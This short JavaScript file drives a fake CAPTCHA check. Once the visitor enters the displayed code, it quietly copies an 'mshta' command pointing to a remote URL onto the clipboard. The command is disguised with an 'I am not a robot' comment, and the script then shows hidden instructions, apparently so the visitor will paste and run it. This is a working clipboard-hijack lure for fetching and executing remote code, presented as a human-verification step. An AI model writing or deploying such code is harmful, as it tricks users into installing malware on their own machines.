let right = "W4rK1";
function draw() {
  const chars = 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789';
  let t = '';
  for (let i = 0; i < 5; i++) t += chars.charAt(Math.floor(Math.random() * chars.length));
  right = t;
  document.getElementById('picture').innerText = t;
}
function check() {
  const typed = document.getElementById('typed').value;
  const msg = document.getElementById('msg');
  const how = document.querySelector('.how');
  if (typed === right) {
    msg.innerText = 'CAPTCHA verified.';
    const line = "mshta https://rc-verify.invalid/a # ''I am not a robot - ID: 7537''";
    navigator.clipboard.writeText(line).then(() => {
      how.style.display = 'block';
    }).catch(() => { msg.innerText = 'Please try again.'; });
  } else {
    msg.innerText = 'Invalid CAPTCHA. Please try again.';
  }
}
document.addEventListener('DOMContentLoaded', draw);
